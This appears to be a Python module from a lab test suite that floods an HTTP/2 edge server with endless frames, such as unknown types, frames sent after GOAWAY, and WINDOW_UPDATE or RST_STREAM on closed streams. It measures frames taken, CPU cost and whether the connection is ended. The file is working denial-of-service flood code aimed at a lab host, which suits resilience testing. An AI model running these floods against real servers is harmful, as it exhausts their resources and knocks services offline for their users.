"""HTTP/2 frames without an end: after GOAWAY, and of kinds that are ignored."""

import struct
import time

from . import flood, http2
from .common import ATTACKER, Figure, Site

POINT, TITLE = "15", "HTTP/2 frames without an end"
SECONDS, MOST_BYTES = 5, 2 << 30
SITE = Site("keyless.attack.test", "keyless")

UNKNOWN = http2.frame(http2.UNKNOWN)
UPDATE = http2.frame(http2.WINDOW_UPDATE, 0, 1, struct.pack("!I", 1))


def floods():
    """What is sent -> (start, one frame, the event after which it begins; half a second at most)."""
    opened = http2.request(1, SITE.name, "/1024")
    reset = http2.request(1, SITE.name, "/1024", "POST", end=False) + http2.reset(1)
    zero = http2.frame(http2.WINDOW_UPDATE, 0, 0, bytes(4))  # a connection error: GOAWAY
    too_many = b"".join(http2.ping(number) for number in range(1, 1500))
    return {
        "after GOAWAY for an error: unknown frames": (zero, UNKNOWN, "goaway"),
        "after GOAWAY for an error: PRIORITY": (zero, http2.frame(http2.PRIORITY, 0, 3, bytes(5)), "goaway"),
        "after GOAWAY for a flood: unknown frames": (too_many, UNKNOWN, "goaway"),
        "unknown types": (b"", UNKNOWN, "start"),
        "unknown types of 16 KiB": (b"", http2.frame(http2.UNKNOWN, 0, 0, bytes(16384)), "start"),
        "WINDOW_UPDATE on a closed stream": (opened, UPDATE, "response"),
        "WINDOW_UPDATE on a reset stream": (reset, UPDATE, "pause"),
        "DATA of one byte on a reset stream": (reset, http2.frame(http2.DATA, 0, 1, b"x"), "pause"),
        "GOAWAY": (b"", http2.frame(http2.GOAWAY, 0, 0, bytes(8)), "start"),
        "RST_STREAM on a closed stream": (opened, http2.reset(1), "response"),
        "PRIORITY_UPDATE": (b"", http2.frame(0x10, 0, 0, struct.pack("!I", 1) + b"u=1"), "start"),
    }


def run(lab):
    figures = []
    with lab.pair([SITE]) as (edge, _):
        for what, case in floods().items():
            figures += attack(lab, edge, what, *case)
    return figures


def attack(lab, edge, what, start, one, event):
    frames = http2.Frames()
    # A small buffer: what is sent is what the edge takes, but for some 100 kB.
    client = lab.connect(edge.port, SITE.name, ATTACKER, alpn=("h2",), send_buffer=16384)
    batch = one * max(1, 16384 // len(one))
    first = http2.PREFACE + http2.settings() + http2.SETTINGS_ACK + start
    pieces = [first]
    before = len(first)
    began = time.monotonic()

    def more():
        if pieces:
            return pieces.pop()
        ready = {"start": True, "pause": False, "goaway": frames.goaway is not None, "response": 1 in frames.ended_streams}
        return batch if ready[event] or time.monotonic() - began > 0.5 else b""

    stream = flood.Stream(client, more, frames.feed, writes_on=True)
    cpu = edge.cpu()
    took = flood.run([stream], SECONDS, lambda: stream.sent > MOST_BYTES)
    used = edge.cpu() - cpu
    client.close()
    sent = max(0, stream.sent - before) // len(one)
    return [Figure(f"{what}: frames taken", sent),
            Figure(f"{what}: CPU of the edge", round(used, 2), "s"),
            Figure(f"{what}: ended", f"after {took:.1f} s" if stream.ended else f"no, in {took:.1f} s")]
